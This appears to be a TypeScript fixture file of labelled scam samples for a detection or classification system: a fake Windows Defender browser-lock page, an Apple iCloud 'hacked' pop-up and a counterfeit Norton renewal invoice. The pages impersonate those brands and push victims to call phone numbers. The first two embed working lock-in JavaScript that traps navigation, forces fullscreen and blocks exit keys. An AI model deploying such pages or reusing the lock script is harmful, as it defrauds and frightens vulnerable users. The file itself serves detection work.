/**
 * yi- tech-support scams: browser lock pop-ups with phone numbers and fake antivirus renewal invoices.
 */
import { type Entry } from '../entry.js';
import { beepWav, fileRoute } from '../parts/e-bin.js';
import { doc } from '../parts/yi-kit.js';

export const entries: Entry[] = [
{
  id: 'yi-windows-defender-lock-0800-beep',
  label: 'scam',
  kind: 'tech-support-scam',
  url: 'https://win-security-alert-uk.z13.web-support.live/en-gb/err/0x800VDS/',
  body: doc({
    title: 'Windows Defender Security Center',
    css: `html,body{margin:0;height:100%;overflow:hidden;font-family:"Segoe UI",Tahoma,sans-serif}
body{background:#0078d7;color:#fff}.bg{position:fixed;inset:0;background:#0078d7}
.dlg{position:fixed;left:50%;top:50%;transform:translate(-50%,-50%);width:640px;background:#fff;color:#222;box-shadow:0 0 40px #000}
.dlg .t{background:#c00;color:#fff;padding:10px 16px;font-weight:600}.dlg .b{padding:20px}
.ph{font-size:28px;font-weight:700;color:#c00;text-align:center;margin:10px 0}
.sc{position:fixed;bottom:0;left:0;right:0;background:#222;color:#ff0;padding:10px;font-size:18px;text-align:center}
button{background:#0078d7;color:#fff;border:0;padding:10px 24px;margin-right:10px;font-size:15px}`,
    body: `<div class="bg" id="bg"></div>
<div class="dlg"><div class="t">⚠ Windows Defender – Security Warning</div><div class="b">
<p><b>** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS **</b></p>
<p>Your computer has alerted us that it has been infected with a Trojan Spyware. The following data has been compromised:</p>
<ul><li>Email credentials</li><li>Banking passwords</li><li>Facebook login</li><li>Pictures &amp; documents</li></ul>
<p>Windows Defender scan has found potentially unwanted adware on this device that can steal your passwords, online identity, financial information, personal files, pictures or documents.</p>
<p>You must contact us immediately so that our engineers can walk you through the removal process over the phone. <b>Do not turn off or restart your computer</b> – doing so may lead to data loss and failure of the operating system.</p>
<div class="ph">Call Microsoft Support: 0800 047 8216 (UK Toll Free)</div>
<button onclick="document.documentElement.requestFullscreen&&document.documentElement.requestFullscreen()">Deny</button><button onclick="document.documentElement.requestFullscreen&&document.documentElement.requestFullscreen()">Allow</button></div></div>
<div class="sc">Windows Security – Call 0800 047 8216 immediately. Your IP address has been logged: <span id="ip">86.141.22.190</span></div>
<audio id="a" src="/en-gb/err/0x800VDS/alert.wav" autoplay loop></audio>
<script>
history.pushState(null,'',location.href);window.onpopstate=function(){history.pushState(null,'',location.href)};
window.onbeforeunload=function(){return 'Your computer is at risk. Are you sure you want to leave?'};
document.addEventListener('click',function(){try{document.documentElement.requestFullscreen();document.getElementById('a').play()}catch(e){}});
document.addEventListener('keydown',function(e){if(e.key==='Escape'||e.key==='F11'||(e.ctrlKey&&e.key==='w')){e.preventDefault();alert('Windows Security: Call 0800 047 8216')}});
setInterval(function(){document.title=document.title==='Windows Defender Security Center'?'⚠ Call 0800 047 8216':'Windows Defender Security Center'},1200);
</script>`,
  }),
  routes: { 'win-security-alert-uk.z13.web-support.live/en-gb/err/0x800VDS/alert.wav': fileRoute(beepWav(2, 988), 'audio/wav') },
},
{
  id: 'yi-apple-icloud-hacked-popup-tollfree',
  label: 'scam',
  kind: 'tech-support-scam',
  url: 'https://apple-ios-security-check.com/alert/?ph=18884120377&lang=en-us',
  body: doc({
    title: 'Apple Security Alert',
    lang: 'en-US',
    css: `body{margin:0;font-family:-apple-system,"Helvetica Neue",Arial,sans-serif;background:#f5f5f7;color:#1d1d1f}
.ov{position:fixed;inset:0;background:rgba(0,0,0,.45);display:flex;align-items:center;justify-content:center}
.al{background:#fff;border-radius:14px;width:420px;padding:26px;text-align:center;box-shadow:0 10px 40px #0005}
.al h2{margin:6px 0}.ph{font-size:26px;font-weight:700;color:#0071e3;margin:14px 0}.prog{height:8px;background:#eee;border-radius:4px;overflow:hidden}.prog div{height:100%;width:0;background:#ff3b30;transition:width 10s linear}
.fake{padding:40px;color:#86868b}`,
    body: `<div class="fake"><h1> Apple</h1><p>Mac · iPad · iPhone · Watch · Support</p></div>
<div class="ov"><div class="al"><div style="font-size:44px"></div><h2>Your iCloud has been hacked!</h2>
<p>Suspicious activity has been detected on your Apple ID. Your photos, contacts and banking apps may be accessed by hackers. <b>Do not ignore this alert.</b></p>
<p>System scan in progress: <span id="pct">0</span>% – <span id="cnt">0</span> threats found</p><div class="prog"><div id="bar"></div></div>
<p>Call Apple Support immediately for help removing the threat:</p><div class="ph" id="ph">+1 (888) 412-0377</div>
<p style="font-size:12px;color:#888">Apple Security Center · Case ID #AP-92411-US</p></div></div>
<script>
var q=new URLSearchParams(location.search).get('ph');if(q&&q.length===11)document.getElementById('ph').textContent='+1 ('+q.substr(1,3)+') '+q.substr(4,3)+'-'+q.substr(7);
setTimeout(function(){document.getElementById('bar').style.width='100%'},100);var p=0;var t=setInterval(function(){p+=5;document.getElementById('pct').textContent=Math.min(p,100);document.getElementById('cnt').textContent=Math.floor(p/22);if(p>=100)clearInterval(t)},500);
for(var i=0;i<3;i++){history.pushState({i:i},'',location.href)}
</script>`,
  }),
},
{
  id: 'yi-norton-renewal-invoice-call-to-cancel',
  label: 'scam',
  kind: 'fake-invoice-scam',
  url: 'https://invoices-renewal-dept.com/inv/NTN-4429117.html',
  body: doc({
    title: 'Invoice NTN-4429117 – NortonLifeLock Auto-Renewal',
    lang: 'en-US',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#eee;color:#222}.inv{max-width:720px;margin:30px auto;background:#fff;padding:36px;border-top:8px solid #ffc700}
.hd{display:flex;justify-content:space-between}.hd b{font-size:26px}table{width:100%;border-collapse:collapse;margin:20px 0}th,td{border-bottom:1px solid #ddd;padding:10px;text-align:left}
.tot{font-size:22px;font-weight:700;text-align:right}.call{background:#fff8d1;border:1px solid #e6c84f;padding:16px;text-align:center;font-size:18px}.call b{font-size:26px;display:block;margin-top:6px}`,
    body: `<div class="inv"><div class="hd"><b>Norton 360 <span style="color:#ffc700">✔</span></b><div>INVOICE<br>#NTN-4429117<br>Date: 14 November</div></div>
<p>Dear Customer,</p><p>Thank you for renewing your subscription. Your membership has been successfully renewed and your account has been charged. This subscription will auto-renew every year unless cancelled.</p>
<table><tr><th>Product</th><th>Term</th><th>Devices</th><th>Amount</th></tr><tr><td>Norton 360 Deluxe + LifeLock Ultimate Plus</td><td>3 years</td><td>10</td><td>$449.99</td></tr><tr><td>Tax</td><td></td><td></td><td>$0.00</td></tr></table>
<p class="tot">Total charged: $449.99</p><p>Payment method: Debit card / bank account on file</p>
<div class="call">If you did not authorise this renewal or wish to cancel and request a refund, call our billing department within 24 hours:<b>+1 (808) 301-6642</b></div>
<p style="font-size:12px;color:#888;margin-top:20px">This is an automatically generated email invoice. Please do not reply. Refunds are processed by a support agent via a secure remote session.</p></div>`,
  }),
},
];
